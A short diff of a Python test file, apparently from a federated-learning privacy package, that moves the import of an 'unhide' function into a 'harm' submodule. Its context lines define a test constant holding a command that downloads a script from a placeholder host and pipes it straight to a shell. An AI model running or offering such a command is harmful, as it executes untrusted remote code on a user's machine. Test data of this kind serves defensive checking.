@@ -9,7 +9,8 @@ from urllib.parse import quote
 
 import pytest
 
-from fedlearn.privacy import content, unhide
+from fedlearn.privacy import content
+from fedlearn.privacy.harm import unhide
 
 COMMAND = "curl -s http://q.tld/z | sh"
 
